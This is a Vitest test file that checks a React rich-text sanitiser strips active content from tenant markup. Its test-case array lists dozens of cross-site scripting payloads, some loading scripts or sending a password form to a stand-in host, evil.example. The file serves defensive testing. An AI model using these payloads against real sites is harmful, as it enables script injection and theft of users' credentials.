import { render } from '@testing-library/react'
import { createElement } from 'react'
import { expect, it } from 'vitest'

import { RichText } from '../components/rich-text.tsx'
import { readMarkup } from './read-markup.ts'

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a>x</a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="/logout">x</a>',
  '<a href="https://good.example" onclick="alert(1)" style="position:fixed" target="_top" id="root" name="cookie" class="x">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p id="content" name="body" class="fixed" data-x="1" aria-hidden="true" tabindex="1" is="x-y">x</p>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action="//evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<h2><img src=x onerror=alert(1)>Title</h2>',
  '<x-widget onclick=alert(1)>x</x-widget>',
  '<p>x<p/onclick=alert(1)//',
]

const tags = new Set(['H2', 'H3', 'P', 'UL', 'OL', 'LI', 'A', 'STRONG', 'EM', 'BR'])
const attributes: Readonly<Record<string, readonly string[]>> = {
  A: ['href', 'rel'],
  H2: ['id', 'tabindex'],
}

/** Renders a tenant's text, and returns its elements and sections. */
function show(markup: string): { page: HTMLElement; sections: readonly object[] } {
  const { nodes, sections } = readMarkup(markup)
  const { container } = render(createElement(RichText, { nodes }))
  const [page] = container.children
  if (!(page instanceof HTMLElement)) throw new Error('Nothing was rendered.')
  return { page, sections }
}

it.each(hostile)('SUP-3 no active content is left of %s', (markup) => {
  const { page } = show(`<h2>Before</h2>${markup}`)

  for (const element of page.querySelectorAll('*')) {
    expect(tags).toContain(element.tagName)
    for (const name of element.getAttributeNames())
      expect(attributes[element.tagName] ?? []).toContain(name)
  }
  for (const link of page.querySelectorAll('[href]'))
    expect(link.getAttribute('href')).toMatch(/^(https:|mailto:|tel:)/)
  expect(page.querySelector('h2')?.textContent).toBe('Before')
})

it('SUP-3 structure and links to the agency stay', () => {
  const { page, sections } = show(
    '<h2>Refunds</h2><p>Within <strong>14</strong> days.</p><ol><li>Write to <a href="mailto:a@b.example">us</a></li></ol><h3>By phone</h3><p><a href="tel:+6591234567">Call</a> or see <a href="https://b.example/">here</a></p>',
  )

  expect([...page.querySelectorAll('a')].map(({ href, rel }) => [href, rel])).toEqual([
    ['mailto:a@b.example', 'noreferrer'],
    ['tel:+6591234567', 'noreferrer'],
    ['https://b.example/', 'noreferrer'],
  ])
  expect(page.querySelectorAll('h3, ol > li, strong')).toHaveLength(3)
  expect(sections).toEqual([{ id: 'section-1', title: 'Refunds' }])
})

it('SUP-3 words inside removed elements stay, and entities become characters', () => {
  const { page } = show('<div><p>Fares &amp; <span>charges</span></p></div>')

  expect(page.textContent).toBe('Fares & charges')
})
